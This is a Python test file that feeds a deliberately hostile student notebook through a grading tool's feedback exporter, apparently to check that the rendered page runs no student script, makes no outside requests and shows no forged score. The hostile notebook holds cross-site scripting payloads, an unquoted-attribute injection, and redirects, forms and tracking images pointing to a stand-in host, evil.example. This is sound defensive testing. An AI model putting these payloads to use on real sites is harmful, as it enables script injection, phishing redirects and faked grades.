"""A feedback page runs no student script and shows no forged verdict.

A graded notebook whose outputs and markdown try the usual ways to run script
in a page, to reach the network or to pass for the grader goes through
``FeedbackExporter``. The page is checked parsed (nothing active survives the
sanitizer; the Content-Security-Policy comes first and allows no script; the
math is MathML without links) and opened from disk in headless Chromium with
the network cut off: the browser draws the math, no student script runs, no
request leaves the machine. The same page written without the sanitizer shows that the policy
and the output frames hold on their own (all but a ``<meta http-equiv=refresh>``,
a navigation no policy stops: that one only the sanitizer removes).

Needs the system's Chromium, as tests/test_book_browser.py does.
"""
from __future__ import annotations

import base64
import re
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert.writers import FilesWriter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from test_book_browser import CHROMIUM_ARGS, _chromium, _open
from test_feedback import PIXEL, export
from traitlets.config import PyFileConfigLoader

from grader_tests import feedback
from grader_tests.feedback import FeedbackExporter

ROOT = Path(__file__).resolve().parent.parent
TITLE = "01_nonlinearity"  # the page's title: what student script would change
RUN = "document.title='pwned';window.pwned=1"  # no spaces: fits an unquoted attribute
FORGED = ("<style>.verdict{position:fixed;top:0;left:0;right:0;z-index:9999;"
          "background:#dff0d8;font-size:40px}</style>"
          '<div class="verdict navbar-fixed-top" style="position:fixed;top:0;left:0">'
          "Score 21/21: all tests passed</div>")
# A navigation, which no Content-Security-Policy stops: only the sanitizer does.
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="' + RUN + '">'
       '<script>' + RUN + '</script><circle cx="20" cy="20" r="15" fill="teal"/></svg>')
MARKDOWN = ("Math stays: $x^2$ and $$\\frac{a}{b}$$\n\n<script>" + RUN + "</script>\n\n"
            "[click](javascript:" + RUN + ') <img src="x" onerror="' + RUN + '">\n\n'
            "$\\href{javascript:" + RUN + "}{link}$ $\\style{position:fixed;top:0}{S}$")


def html(markup: str, **metadata):
    return new_output("display_data", data={"text/html": markup}, metadata=metadata)


def hostile_notebook():
    outputs = [
        html(f"<script>{RUN}</script>"),
        new_output("display_data", data={"application/javascript": RUN}),
        html(f'<img src="x" onerror="{RUN}">'),
        html(f'<a href="javascript:{RUN}">a</a> <a href=" JaVa&#09;Script:{RUN}">b</a> '
             f'<a href="vbscript:msgbox(1)">c</a> <a href="data:text/html,<script>{RUN}</script>">d</a>'),
        html(f'<svg><script>{RUN}</script></svg><svg onload="{RUN}"><circle r="5"/></svg>'),
        html(f'<iframe src="data:text/html,<script>parent.{RUN}</script>"></iframe>'
             '<object data="x.swf"></object><embed src="x.swf">'),
        html(FORGED),
        html('<form action="https://evil.example/"><input name="p"><button>Go</button></form>'
             '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'
             '<img src="https://evil.example/track.png">'),
        html(REFRESH),
        # nbconvert puts an "isolated" output in an iframe
        html("<b>isolated</b>", **{"text/html": {"isolated": True}}),
        # nbconvert's template writes the width unquoted: an attribute injection
        new_output("display_data", data={"image/png": PIXEL},
                   metadata={"image/png": {"width": f"1 onerror={RUN}"}}),
        new_output("display_data", data={"text/markdown": f"<script>{RUN}</script>[m](javascript:{RUN})"}),
        new_output("display_data", data={"image/svg+xml": SVG}),
        new_output("display_data", data={"image/png": PIXEL}),
    ]
    nb = new_notebook(cells=[new_markdown_cell(MARKDOWN), new_code_cell("show()", outputs=outputs)])
    nb.metadata["language_info"] = {"name": "python"}
    return nbformat.from_dict(nb)


@pytest.fixture(scope="module")
def soup(tmp_path_factory):
    page = export(FeedbackExporter, tmp_path_factory.mktemp("course"), hostile_notebook())
    return BeautifulSoup(page, features="html.parser")


def test_the_page_has_no_script(soup):
    assert soup.find_all("script") == []


def test_no_event_handler_or_script_url(soup):
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), tag
            url = re.sub(r"[\x00-\x20]", "", str(value)).lower()
            if name in ("href", "src", "action", "data", "formaction"):
                assert not url.startswith(("javascript:", "vbscript:")), tag
                assert not url.startswith("data:") or (tag.name == "img" and url.startswith("data:image/")), tag


def test_no_frame_form_style_meta_or_base_from_students(soup):
    body = soup.body
    active = ["script", "iframe", "object", "embed", "form", "input", "button", "style", "meta",
              "base", "link", "svg"]
    assert body.find_all(active) == []
    # MathML only where the exporter wrote it, in markdown cells; never from an output.
    assert all(math.find_parent("div", class_="text_cell_render") for math in body.find_all("math"))
    assert body.find_all(style=True) == []
    assert [meta.attrs for meta in soup.find_all("meta")] == [
        {"http-equiv": "Content-Security-Policy", "content": feedback.CSP}, {"charset": "utf-8"}]


def test_forged_verdict_is_plain_text_in_its_frame(soup):
    forged = soup.find(string=re.compile("Score 21/21"))
    assert forged.find_parent("div", class_="output_wrapper") is not None
    for tag in forged.parents:
        assert not {"verdict", "navbar-fixed-top"} & set(tag.get("class", [])), tag


def test_figures_still_show(soup):
    sources = [img["src"] for img in soup.find_all("img") if img.get("src", "").startswith("data:")]
    assert sum(src.startswith("data:image/png;base64,") for src in sources) == 2
    # An SVG output is an image: a browser runs no script of an SVG in <img>.
    svgs = [src for src in sources if src.startswith("data:image/svg+xml;base64,")]
    assert [base64.b64decode(src.split(",", 1)[1]).decode() for src in svgs] == [SVG]


def test_markdown_math_is_mathml_without_links_or_styles(soup):
    cell = soup.find("div", class_="text_cell_render")
    assert cell.find("msup") is not None and cell.find("math", display="block").find("mfrac") is not None
    assert "$" not in cell.get_text()
    for tag in cell.find_all(["math", *feedback.MATHML_TAGS]):
        assert not {"href", "style", "class"} & set(tag.attrs), tag


def test_policy_comes_first_and_allows_only_the_loader(soup):
    first = soup.head.find(True)
    assert first.name == "meta" and first["http-equiv"] == "Content-Security-Policy"
    policy = dict(directive.split(" ", 1) for directive in first["content"].split("; "))
    assert policy["script-src"] == "'none'"
    assert policy["default-src"] == "'none'" and policy["base-uri"] == "'none'"
    assert not re.search(r"https?:|\*|unsafe-eval", first["content"])


# --- in the browser ----------------------------------------------------------

@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=_chromium(), headless=True, args=CHROMIUM_ARGS)
        yield b
        b.close()


def write_feedback(folder: Path, nb) -> Path:
    """The notebook's page, written as generate_feedback writes it."""
    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    converter = GenerateFeedback(coursedir=CourseDirectory(root=str(folder)), config=config)
    exporter = FeedbackExporter(parent=converter, config=converter.config)
    page, resources = exporter.from_notebook_node(nb, {
        "nbgrader": {"notebook": TITLE, "score": 0, "max_score": 21, "late_penalty": 0}})
    writer = FilesWriter(parent=converter, config=converter.config, build_directory=str(folder))
    writer.write(page, resources, notebook_name=TITLE)
    return folder / f"{TITLE}.html"


def open_offline(browser, page_path: Path):
    """The page opened from disk, every non-local request aborted and logged;
    its screenshot is saved beside it, for humans."""
    context, page, log = _open(browser, page_path)
    page.screenshot(path=str(page_path.with_suffix(".png")), full_page=True)
    print(f"screenshot: {page_path.with_suffix('.png')}")
    return context, page, log


MATH_DRAWN_JS = """() => [...document.querySelectorAll('div.text_cell_render math')].map(
  math => math.getBoundingClientRect().height)"""


def assert_no_student_script_ran_and_math_drawn(page, log):
    assert page.title() == TITLE
    assert page.evaluate("() => window.pwned") is None
    heights = page.evaluate(MATH_DRAWN_JS)
    assert len(heights) >= 2 and min(heights[:2]) > 5, heights  # $x^2$ and the fraction
    assert not log.outside, f"requests left the machine: {log.outside}"


@pytest.mark.timeout(180)
def test_page_opened_from_disk_runs_no_student_script(browser, tmp_path):
    path = write_feedback(tmp_path, hostile_notebook())
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]  # the page alone
    context, page, log = open_offline(browser, path)
    try:
        assert_no_student_script_ran_and_math_drawn(page, log)
        assert page.locator("math a, math [href]").count() == 0  # the TeX link to javascript: went
    finally:
        context.close()


FRAME_HOLDS_JS = """() => {
  const forged = [...document.querySelectorAll('div.verdict')];
  return forged.length > 0 && forged.every(el => {
    const box = el.getBoundingClientRect();
    const frame = el.closest('div.output_wrapper').getBoundingClientRect();
    return box.top >= frame.top && box.bottom <= frame.bottom + 1 && box.left >= frame.left;
  });
}"""


@pytest.mark.timeout(180)
def test_policy_and_frames_hold_without_the_sanitizer(browser, tmp_path, monkeypatch):
    monkeypatch.setattr(feedback, "sanitize", lambda html, math=False: str(html))
    nb = hostile_notebook()
    nb.cells[1].outputs = [out for out in nb.cells[1].outputs if out.get("data", {}).get("text/html") != REFRESH]
    path = write_feedback(tmp_path, nb)
    assert "<script>document.title" in path.read_text()  # the student's script is in the page
    context, page, log = open_offline(browser, path)
    try:
        assert_no_student_script_ran_and_math_drawn(page, log)
        # the forged box, fixed to the top of the page, is drawn inside its frame
        assert page.evaluate(FRAME_HOLDS_JS)
    finally:
        context.close()
